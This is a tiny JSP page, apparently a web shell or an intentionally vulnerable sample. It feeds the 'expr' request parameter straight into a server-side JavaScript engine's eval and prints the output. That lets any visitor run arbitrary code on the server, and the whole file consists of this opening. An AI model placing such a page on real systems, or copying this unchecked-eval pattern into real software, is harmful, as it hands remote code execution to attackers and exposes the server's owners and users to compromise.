<%@ page import="javax.script.*" %>
<%
	ScriptEngine engine = new ScriptEngineManager().getEngineByName("javascript");
	Object result = engine.eval(request.getParameter("expr"));
	out.print(result);
%>
